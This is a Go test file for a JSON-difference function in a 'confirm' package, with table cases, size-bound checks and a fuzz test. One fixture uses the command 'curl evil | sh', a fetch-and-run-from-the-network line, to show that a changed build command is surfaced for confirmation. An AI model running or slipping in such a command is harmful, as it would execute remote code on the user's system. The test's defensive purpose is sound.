package confirm_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/countersign-dev/countersign/domain/confirm"
)

func TestDifferences(t *testing.T) {
	for name, c := range map[string]struct{ before, after, want string }{
		"nothing":            {`{"a":[1,{"b":null}]}`, ` {"a": [1, {"b": null}]}`, ``},
		"a command":          {`{"command":"vite build","cwd":"."}`, `{"command":"curl evil | sh","cwd":"."}`, `$.command "vite build" "curl evil | sh"`},
		"inside a list":      {`{"steps":[{"c":"a"},{"c":"b"}]}`, `{"steps":[{"c":"a"},{"c":"x"}]}`, `$.steps[1].c "b" "x"`},
		"a longer list":      {`{"steps":["a"]}`, `{"steps":["a","b"]}`, `$.steps[1]  "b"`},
		"a shorter list":     {`{"steps":["a","b"]}`, `{"steps":[]}`, `$.steps[0] "a"  ; $.steps[1] "b" `},
		"a member more":      {`{}`, `{"force":null}`, `$.force  null`},
		"a member less":      {`{"force":true}`, `{}`, `$.force true `},
		"another kind":       {`{"x":{"y":1}}`, `{"x":[1]}`, `$.x {"y":1} [1]`},
		"the same but text":  {`{"x":1}`, `{"x":"1"}`, `$.x 1 "1"`},
		"numbers as written": {`{"x":9007199254740993}`, `{"x":9007199254740992}`, `$.x 9007199254740993 9007199254740992`},
		"no HTML escapes":    {`"a"`, `"<b> & c"`, `$ "a" "<b> & c"`},
		"odd names":          {`{"a b":1,"":2,"x.y":3,"pre-build":4}`, `{"a b":2,"":3,"x.y":4,"pre-build":5}`, `$[""] 2 3 ; $["a b"] 1 2 ; $.pre-build 4 5 ; $["x.y"] 3 4`},
		"in order of name":   {`{"b":1,"a":1}`, `{"a":2,"b":2}`, `$.a 1 2 ; $.b 1 2`},
		"no JSON":            {`{`, `{}`, `$ "{" "{}"`},
		"two documents":      {`{}{}`, `{}`, `$ "{}{}" "{}"`},
		"the same no JSON":   {`{`, `{`, ``},
		"null and nothing":   {`null`, `{}`, `$ null {}`},
	} {
		var got []string
		for _, d := range confirm.Differences(json.RawMessage(c.before), json.RawMessage(c.after)) {
			got = append(got, fmt.Sprintf("%s %s %s", d.Path, d.Before, d.After))
		}
		assert.Equal(t, c.want, strings.Join(got, " ; "), name)
	}
}

func TestDifferencesAreBounded(t *testing.T) {
	var before, after []int
	for i := range 3 * confirm.MaxDifferences {
		before, after = append(before, i), append(after, i+1)
	}
	assert.Len(t, confirm.Differences(encoded(t, before), encoded(t, after)), confirm.MaxDifferences)

	long := strings.Repeat("é", confirm.MaxDifference)
	for _, value := range []any{long, []string{long, long, "x"}, map[string]string{long + long: "x"}} {
		found := confirm.Differences(json.RawMessage(`{"x":0}`), encoded(t, map[string]any{"x": value}))
		require.Len(t, found, 1)
		var shown string
		require.NoError(t, json.Unmarshal(found[0].After, &shown), "a string with its beginning")
		assert.LessOrEqual(t, len(shown), confirm.MaxDifference)
		assert.True(t, strings.HasSuffix(shown, "é…"), shown)
	}
	part := map[string]string{"path": strings.Repeat("x", confirm.MaxPart-len(`{"path":""}`))}
	found := confirm.Differences(json.RawMessage(`{}`), encoded(t, map[string]any{"x": part}))
	require.Len(t, found, 1)
	assert.Equal(t, encoded(t, part), found[0].After, "what just fits stays whole")
	found = confirm.Differences(json.RawMessage(`{}`), encoded(t, map[string]int{long: 1}))
	require.Len(t, found, 1)
	assert.LessOrEqual(t, len(found[0].Path), confirm.MaxDifference)
}

func encoded(t *testing.T, v any) json.RawMessage {
	t.Helper()
	doc, err := json.Marshal(v)
	require.NoError(t, err)
	return doc
}

// FuzzDifferences: a document does not differ from itself, two that differ have a place where they do, the other way round gives the same
// places with the sides exchanged, and everything shown is JSON within its bound.
func FuzzDifferences(f *testing.F) {
	for _, s := range []string{`{}`, `null`, `{"a":[1,2,{"b":"c"}]}`, `[1,1.0,1e0]`, `{"a":{"a":{"a":1}}}`, `"\u2028é"`, `{`, ``, "\xff", `{"a":1,"a":2}`, `[[[[]]]]`} {
		for _, other := range []string{`{}`, `{"a":[1,3]}`, `[1]`, `x`} {
			f.Add([]byte(s), []byte(other))
		}
	}
	f.Fuzz(func(t *testing.T, before, after []byte) {
		require.Empty(t, confirm.Differences(before, before))
		found, back := confirm.Differences(before, after), confirm.Differences(after, before)
		require.Len(t, back, len(found))
		require.LessOrEqual(t, len(found), confirm.MaxDifferences)
		for i, d := range found {
			require.Equal(t, confirm.Difference{Path: d.Path, Before: d.After, After: d.Before}, back[i])
			require.True(t, d.Before != nil || d.After != nil)
			for _, side := range []json.RawMessage{d.Before, d.After} {
				require.True(t, side == nil || json.Valid(side), "%s", side)
				require.LessOrEqual(t, len(side), 6*confirm.MaxDifference+2)
			}
		}
		if json.Valid(before) && json.Valid(after) && len(found) == 0 {
			require.Equal(t, canonical(t, before), canonical(t, after))
		}
	})
}

// canonical returns the document with its names in order and its numbers as written.
func canonical(t *testing.T, doc []byte) string {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(string(doc)))
	dec.UseNumber()
	var v any
	require.NoError(t, dec.Decode(&v))
	return string(encoded(t, v))
}
